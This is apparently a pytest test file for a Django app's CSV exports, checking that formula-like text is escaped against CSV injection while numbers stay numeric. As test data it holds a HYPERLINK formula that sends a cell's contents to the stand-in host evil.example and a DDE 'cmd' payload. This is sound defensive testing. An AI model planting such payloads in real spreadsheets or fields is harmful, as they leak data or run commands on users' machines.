"""CSV downloads a spreadsheet cannot be made to run (OWASP "CSV Injection"): text that starts
like a formula is escaped with a leading quote, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.roles import Role
from core.csv_export import csv_response, spreadsheet_safe
from dashboard.rollups import rollups_rebuild
from tests.conftest import signed_in
from tests.factories import CaseFactory, LocationFactory, ProposalFactory, ProposalLineFactory, staff


def read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\r=1"],
)
def test_text_that_starts_like_a_formula_is_escaped(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Alice Moreno", "", "a=b", "£-12.50", "SR-000001", "2026-12-01 10:00"])
def test_ordinary_text_is_written_as_it_is(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, -0.5, Decimal("0"), None])
def test_a_number_stays_a_number_even_when_negative(number):
    assert spreadsheet_safe(number) is number


def test_a_download_escapes_its_text_cells_and_keeps_its_numbers():
    header = ["Name", "Amount"]
    rows = [["=1+1", Decimal("-12.50")], ["-12.50", Decimal("3.00")], ["@cmd", -7]]
    assert read(csv_response("x.csv", header, rows))[1:] == [
        ["'=1+1", "-12.50"],  # the amount is still a number a spreadsheet can add
        ["'-12.50", "3.00"],  # text that looks like a number is text (OWASP: escape it)
        ["'@cmd", "-7"],
    ]


def test_the_case_export_escapes_what_staff_typed(owner):
    place = LocationFactory(name='=HYPERLINK("http://evil.example","Open")', code="evil")
    person = staff(Role.FRONTLINE, place, username="mallory", first_name="@SUM(1+1)", last_name="x")
    case = CaseFactory(location=place, created_by=person, assignee=person, order_value=Decimal("64.00"), lost="part")
    rows = read(signed_in(owner).get(reverse("cases:list"), {"export": "csv", "sort": "newest"}))
    header, row = rows[0], rows[1]
    assert row[header.index("Location")] == "'" + place.name
    assert row[header.index("Assignee")].startswith("'@SUM(1+1)")
    assert row[header.index("What they paid for it")] == "64.00"
    assert row[header.index("What they lost")] == case.get_lost_display() == "Part of it"
    assert len(row) == len(header)


def test_the_dashboard_export_escapes_names_and_keeps_numbers(owner):
    place = LocationFactory(name="-2+3+cmd|' /C calc'!A0", code="evil")
    case = CaseFactory(location=place)
    ProposalLineFactory(proposal=ProposalFactory(case=case), face_value=Decimal("20.00"), cost=Decimal("12.00"))
    rollups_rebuild()
    rows = read(signed_in(owner).get(reverse("dashboard:home"), {"export": "csv"}))
    money = next(row for row in rows if row[0] == "Money by location")
    assert money[1] == "'" + place.name
    assert money[3] == "12.00"  # the Number column, unescaped
